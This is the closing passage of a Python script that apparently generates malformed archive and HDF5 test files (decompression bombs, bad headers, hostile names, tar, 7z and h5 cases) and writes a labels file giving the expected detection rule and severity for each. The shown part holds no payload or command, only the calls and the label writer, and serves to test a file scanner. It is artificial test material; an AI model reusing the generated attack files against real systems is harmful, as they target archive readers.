    write("h5/dense-links-600-external-link.h5", 600)


def main():
    eocd_attacks()
    header_attacks()
    name_attacks()
    bomb_attacks()
    sevenzip_attacks()
    tar_attacks()
    h5_attacks()
    with open(os.path.join(OUT, "labels.tsv"), "w") as f:
        f.write("# path\texpect (rule at or above severity)\tseverity\tlive proof (what each real reader saw)\n")
        for rel, rule, sev, proofs in CASES:
            proof = " | ".join(p for p in proofs if p).replace("\t", " ").replace(OUT + "/", "")
            f.write("%s\t%s\t%s\t%s\n" % (rel, rule, sev, proof))
    print(len(CASES), "cases")


if __name__ == "__main__":
    main()
